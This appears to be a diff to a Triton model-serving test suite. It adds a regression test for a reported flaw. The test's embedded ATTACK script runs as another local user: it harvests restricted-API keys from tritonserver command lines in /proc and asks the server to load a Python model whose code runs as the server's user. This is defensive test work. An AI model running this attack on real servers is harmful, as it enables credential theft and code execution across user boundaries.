@@ -186,20 +186,104 @@ def test_served_logits_equal_the_file_in_process(name, protocol, server):
     assert np.abs(logits.astype(np.float64) - expected.astype(np.float64)).max() <= 1e-5
 
 
-def test_clients_can_not_unload_models_or_map_shared_memory_of_a_served_repository(server):
-    """Explicit model control (serve loads only the folders that are models) opens Triton's
-    load/unload API: it and the shared-memory API answer serve's own requests only."""
+# The attack of issue 35, item 1, as a user of the machine who is not serve's: stdlib only (it runs
+# as `nobody`, with the system's Python). It reads every tritonserver's command line (and tries its
+# environment), takes whatever restricted-API key it finds there, and asks the server on `port` to
+# load a Python-backend model whose code writes `marker`: with the key as read, and as HTTP clients
+# would mangle it. Prints what it saw as JSON.
+ATTACK = r"""
+import base64, json, os, socket, sys
+port, marker = sys.argv[1], sys.argv[2]
+seen = {"servers": 0, "environ_readable": False, "keys": [], "answers": []}
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    try:
+        arguments = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+    except OSError:
+        continue
+    if not arguments[0].endswith(b"tritonserver") or port.encode() not in arguments:
+        continue
+    seen["servers"] += 1
+    try:
+        open(f"/proc/{pid}/environ", "rb").read()
+        seen["environ_readable"] = True
+    except OSError:
+        pass
+    for argument in arguments:
+        if argument.startswith(b"--http-restricted-api="):
+            key, value = argument.split(b":", 1)[1].split(b"=", 1)
+            seen["keys"].append([key.decode(), value.decode()])
+config = {"name": "evil", "backend": "python", "max_batch_size": 0,
+          "input": [{"name": "x", "data_type": "TYPE_FP32", "dims": [1]}],
+          "output": [{"name": "y", "data_type": "TYPE_FP32", "dims": [1]}]}
+code = f"open({marker!r}, 'w').write(str(__import__('os').getuid()))\nclass TritonPythonModel:\n    pass\n"
+body = json.dumps({"parameters": {"config": json.dumps(config),
+                                  "file:1/model.py": base64.b64encode(code.encode()).decode()}}).encode()
+headers = [b""] + [k.encode() + b": " + v.encode() + b"\r\n" for k, v in seen["keys"]]
+headers += [k.replace("\n", "").encode() + b": " + v.encode() + b"\r\n" for k, v in seen["keys"]]
+for header in headers:
+    with socket.create_connection(("127.0.0.1", int(port)), timeout=60) as connection:
+        connection.sendall(b"POST /v2/repository/models/evil/load HTTP/1.1\r\nHost: x\r\nContent-Length: "
+                           + str(len(body)).encode() + b"\r\n" + header + b"\r\n" + body)
+        answer = connection.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace")
+    seen["answers"].append(answer or "(connection closed)")
+print(json.dumps(seen))
+"""
+
+
+def _python_for(user: str) -> str | None:
+    """A Python that `user` can run (this run's may live in a folder only its owner reads)."""
+    for candidate in dict.fromkeys([sys.executable, "/usr/bin/python3", "/usr/local/bin/python3"]):
+        try:
+            done = subprocess.run([candidate, "-c", "pass"], user=user, capture_output=True, timeout=30)
+        except (OSError, subprocess.SubprocessError):
+            continue
+        if done.returncode == 0:
+            return candidate
+    return None
+
+
+def test_a_local_user_can_not_load_code_into_a_served_repository(server, tmp_path):
+    """Issue 35, item 1: Triton's model repository API loads a model with any config and any
+    model.py, which its Python backend then runs as serve's user. Another local user (`nobody`)
+    reads the server's command line (every user can) and its environment (only its owner can),
+    takes any restricted-API key found there and asks the server to load such a model, over HTTP
+    (as nobody) and gRPC: every request is refused, and the code never runs. Without a key, the
+    repository (unload), shared-memory (register) and logging APIs refuse too; the served models
+    answer."""
     import urllib.error
 
+    if os.geteuid() != 0:
+        pytest.skip("the attack runs as another user (nobody), which only root can start here")
+    python = _python_for("nobody")
+    if python is None:
+        pytest.skip("no Python on this machine that the user nobody can run")
+    marker = tmp_path / "ran"
+    done = subprocess.run(
+        [python, "-c", ATTACK, str(server["ports"][0]), str(marker)], user="nobody", capture_output=True, text=True,
+        timeout=120,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    seen = json.loads(done.stdout)
+    assert seen["servers"] == 1 and not seen["environ_readable"], seen
+    assert seen["answers"] and not any(" 200 " in answer for answer in seen["answers"]), seen
+    client = grpcclient.InferenceServerClient(server["grpc"])
+    config = json.dumps({"name": "evil", "backend": "python", "max_batch_size": 0})
+    files = {"file:1/model.py": f"open({str(marker)!r}, 'w').write('grpc')\n".encode()}
+    for key, value in seen["keys"]:
+        for name in {key, key.lower().replace("\n", ""), key.replace("\n", "")}:
+            with pytest.raises(InferenceServerException):
+                client.load_model("evil", config=config, files=files, headers={f"triton-grpc-protocol-{name}": value})
+    assert not marker.exists() and not client.is_model_ready("evil")
     for path, body in (
         ("/v2/repository/models/digits/unload", b""),
         ("/v2/systemsharedmemory/region/x/register", b'{"key": "/x", "offset": 0, "byte_size": 8}'),
+        ("/v2/logging", b'{"log_verbose_level": 3}'),  # every request logged, on serve's disk
     ):
         with pytest.raises(urllib.error.HTTPError, match="403"):
             urllib.request.urlopen(urllib.request.Request(f"http://{server['http']}{path}", body), timeout=10)
     with pytest.raises(InferenceServerException, match="restricted"):
-        grpcclient.InferenceServerClient(server["grpc"]).unload_model("digits")
-    assert grpcclient.InferenceServerClient(server["grpc"]).is_model_ready("digits")
+        client.unload_model("digits")
+    assert client.is_model_ready("digits")
 
 
 def test_openvino_inside_triton_serves_the_file_as_openvino_does_in_process(server):
